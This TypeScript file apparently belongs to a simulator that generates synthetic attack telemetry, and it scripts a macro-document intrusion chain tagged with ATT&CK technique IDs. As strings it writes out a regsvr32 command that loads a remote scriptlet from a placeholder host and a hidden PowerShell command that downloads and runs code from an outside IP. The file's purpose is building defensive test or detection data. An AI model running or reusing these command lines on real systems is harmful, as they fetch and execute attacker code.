import { word } from '../programs/applications'
import { regsvr32 } from '../programs/proxies'
import { powershell, whoami } from '../programs/windows'
import { type AttackStory, atDesk } from './story'

/** A document's macro registers a scriptlet from a web server. */
export const macroScriptlet: AttackStory = {
  name: 'macro-scriptlet',
  technique: 'T1218.010',
  quiet: false,
  days: 1,
  victims: 1,
  suits: atDesk,
  run: (stage) => {
    const { day, campaign } = stage
    const editor = day.spawn(
      stage.beginMs - 20_000,
      day.shell,
      word,
      `"${word.path}" /n "C:\\Users\\${day.person}\\Downloads\\Invoice_${campaign.between(1000, 9999)}.docm" /o ""`,
    )
    const scriptlet = stage.act(
      'T1218.010',
      0,
      editor,
      regsvr32,
      `regsvr32 /s /n /u /i:http://cdn-${campaign.word(5)}.example/${campaign.word(6)}.sct scrobj.dll`,
    )
    const shell = stage.act(
      'T1059.001',
      4,
      scriptlet,
      powershell,
      'powershell.exe -nop -w hidden -c "IEX((New-Object Net.WebClient).DownloadString(\'http://203.0.113.24/a\'))"',
    )
    stage.act('T1033', 40, shell, whoami, 'whoami /all')
  },
}
